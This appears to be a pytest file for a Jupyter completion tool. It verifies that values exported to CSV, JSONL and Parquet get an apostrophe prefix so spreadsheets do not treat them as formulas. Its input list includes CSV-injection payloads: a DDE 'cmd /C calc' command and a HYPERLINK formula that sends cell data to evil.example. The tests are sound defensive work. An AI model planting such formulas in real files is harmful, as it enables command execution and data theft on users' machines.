"""Keys stay where they belong, and files say nothing that acts."""

import csv
import json
from decimal import Decimal

import pyarrow.parquet as pq
import pytest
from loopback import events

from jupyter_complete.spreadsheet import cell

# 4. What a spreadsheet would take for a formula

FORMULAS = [
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx", "\rx"),
    *("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")'),
    *(" =1", "\u00a0=1", '"=1', "'=1", "' =1", "`=1", "\ufeff=1", "\u200b=1"),
    *("\u202e=1", "\x00=1", "\x1f=1", "\u3000=1", "\u2028=1", " \n\t '\"=1"),
    *("\uff1d1", "\uff0b1", "\uff0d1", "\uff20x", "\u22121", "\ufe66x", "\ufe621"),
    *("-", "=", "- a list\n- of things", "--option", "-2+3+cmd|' /C calc'!A0"),
]
TEXTS = [
    "",
    "a=1",
    "1-1",
    "x@y",
    "(=1)",
    "'a",
    " a",
    "{=1}",
    "é",
    "“=1”",
    "1,5",
    "\\=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text):
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("text", TEXTS)
def test_other_text_stays_as_it_is(text):
    assert cell(text) == text


@pytest.mark.parametrize("number", [-1.5, -1, 0, True, None, Decimal("-19.90")])
def test_a_number_stays_a_number(number):
    assert cell(number) is number


def read(path):
    with path.open(encoding="utf-8", newline="") as file:
        return [*csv.reader(file)]


def test_the_files_of_a_sweep_and_of_the_history_have_no_formula(
    shell, loopback, tmp_path
):
    for text in FORMULAS:
        loopback.reply(events(text, stop=text))
    shell.user_ns["words"] = [f"={place}" for place in range(len(FORMULAS))]
    where = f"--endpoint {loopback.url} --dialect text -m @model -j 1 --stop =x"
    shell.run(
        f"%complete {where} --user-id +1 -t 0.5 -s tone=@words --yes "
        f"--export {tmp_path}/a.csv =1 {{{{tone}}}}"
    )
    shell.run(f"%complete_history --export {tmp_path}/b.csv")
    sweep = shell.user_ns["_sweep"]
    sweep.to_jsonl(tmp_path / "a.jsonl")
    sweep.to_parquet(tmp_path / "a.parquet")
    shell.run(f"%complete_history --export {tmp_path}/b.jsonl")

    texts = [one.text for one in sweep]
    assert sorted(texts) == sorted(FORMULAS)
    for name in ("a", "b"):
        names, *rows = read(tmp_path / f"{name}.csv")
        assert len(rows) == len(FORMULAS)
        found = {row[names.index("text")] for row in rows}
        assert found == {f"'{text}" for text in FORMULAS}
        if name == "a":
            assert {row[names.index("tone")] for row in rows} == {
                f"'{word}" for word in shell.user_ns["words"]
            }
        else:
            assert {row[names.index("temperature")] for row in rows} == {"0.5"}
        formula = [one for row in rows for one in row if cell(one) != one]
        assert all(one.startswith("'") for one in formula)
    lines = (tmp_path / "a.jsonl").read_text().splitlines()
    assert [json.loads(line)["text"] for line in lines] == texts
    table = pq.read_table(tmp_path / "a.parquet")
    assert table["text"].to_pylist() == texts
    lines = (tmp_path / "b.jsonl").read_text().splitlines()
    kept = [json.loads(line)["completion"]["text"] for line in lines]
    assert {text if isinstance(text, str) else text["$json"] for text in kept} == {
        *FORMULAS
    }


@pytest.mark.parametrize("magic", ["%complete", "%complete_history"])
def test_the_help_says_so(shell, magic, capsys):
    shell.run(f"{magic}?")

    assert "apostrophe" in capsys.readouterr().out
